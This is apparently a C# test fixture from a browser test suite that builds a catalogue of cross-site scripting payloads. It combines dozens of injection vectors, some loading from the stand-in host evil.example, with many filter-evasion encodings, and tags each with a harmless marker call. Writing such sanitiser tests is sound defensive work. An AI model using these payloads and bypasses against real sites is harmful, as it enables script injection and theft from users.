using System.Globalization;

namespace Publication.BrowserTests.Hostile;

/// <summary>
/// Texts that try to run <c>ran(N)</c> or to fetch from <c>evil.example</c>: what is to be done (a vector) in each of the
/// spellings under which filters have let it through (a disguise). N tells which one it was.
/// </summary>
internal static class Payloads
{
    // § is the call.
    private static readonly string[] Vectors =
    [
        "<script>§</script>",
        "<img src=x onerror=§>",
        "<svg onload=§>",
        "<svg><animate onbegin=§ attributeName=x dur=1s>",
        "<math><a xlink:href=\"javascript:§\">x</a></math>",
        "\"><script>§</script>",
        "'><img src=x onerror='§'>",
        "\" autofocus tabindex=1 onfocus=\"§",
        "' autofocus tabindex=1 onfocus='§",
        "x onmouseover=§ style=position:fixed;inset:0",
        "javascript:§",
        "JaVaScRiPt://%0a§",
        "vbscript:§",
        "data:text/html,<script>parent.§</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+",
        "//evil.example/§",
        "</title><script>§</script>",
        "</textarea></style></pre><script>§</script>",
        "</script><script>§</script>",
        "--><script>§</script><!--",
        "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">§</script>",
        "<!--<script>§//--></script>",
        "{{ \"<script>§</script>\" }}",
        "{% raw %}<script>§</script>{% endraw %}",
        "<iframe srcdoc=\"<script>parent.§</script>\"></iframe>",
        "<iframe src=\"javascript:parent.§\"></iframe>",
        "<style>@import '//evil.example/§';</style>",
        "<link rel=stylesheet href=//evil.example/§>",
        "<meta http-equiv=refresh content=\"0;url=javascript:§\">",
        "<base href=//evil.example/>",
        "<form action=javascript:§><input type=submit autofocus>",
        "<object data=javascript:§></object><embed src=javascript:§>",
        "<details open ontoggle=§><summary>x</summary></details>",
        "<video src=x onerror=§><source onerror=§></video>",
        "<input autofocus onfocus=§>",
        "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
        "<template><script>§</script></template><select><script>§</script>",
        "<a href=\"javascript:§\" id=clobbered name=ran>x</a>",
        "[x](javascript:§) ![x](//evil.example/§)",
        "<https://x/\"onmouseover=\"§> <javascript:§>",
        "{onclick=§ style=color:red #x\" .y\"}",
        "@[x](javascript:§) [[x\"onclick=§|<img src=x onerror=§>]]",
    ];

    private static readonly Func<string, string>[] Disguises =
    [
        s => s,
        s => string.Concat(s.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : char.ToLowerInvariant(c))),
        s => Each(s, "<>\"':(){}", c => Named(c)),
        s => Each(s, "<>\"':(){}", c => $"&#x{(int)c:X};"),
        s => Each(s, "<>\"':(){}", c => $"&#{((int)c).ToString("D7", CultureInfo.InvariantCulture)}"),
        s => Each(s, "<>\"':(){} /", c => $"%{(int)c:X2}"),
        s => Each(s, "<>\"':(){}", c => ((char)(c + 0xFEE0)).ToString()),
        s => s.Replace("script", "scr&Tab;ipt", StringComparison.OrdinalIgnoreCase),
        s => s.Replace("script", "scr&#10;ipt", StringComparison.OrdinalIgnoreCase).Replace("on", "o&NewLine;n", StringComparison.Ordinal),
        s => s.Replace("script", "scr\tipt", StringComparison.OrdinalIgnoreCase),
        s => s.Replace("script", "scr<script>ipt", StringComparison.OrdinalIgnoreCase),
        s => s.Replace(" ", "/", StringComparison.Ordinal),
        s => "&#1;&#x0C;" + s,
        s => "\u00a0" + s.Replace("=", " = ", StringComparison.Ordinal),
        s => "\\" + s.Replace("<", "\\<", StringComparison.Ordinal).Replace("]", "\\]", StringComparison.Ordinal),
        s => Each(s, "<", c => "<%00"),
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. Vectors.SelectMany((vector, v) => Disguises.Select((disguise, d) => disguise(vector.Replace("§", $"ran({(v * Disguises.Length) + d})", StringComparison.Ordinal)))),
    ];

    private static string Each(string text, string which, Func<char, string> write) =>
        string.Concat(text.Select(c => which.Contains(c, StringComparison.Ordinal) ? write(c) : c.ToString()));

    private static string Named(char c) => c switch
    {
        '<' => "&lt;", '>' => "&gt;", '"' => "&quot;", '\'' => "&apos;", ':' => "&colon;", '(' => "&lpar;", ')' => "&rpar;", '{' => "&lbrace;", _ => "&rbrace;",
    };
}
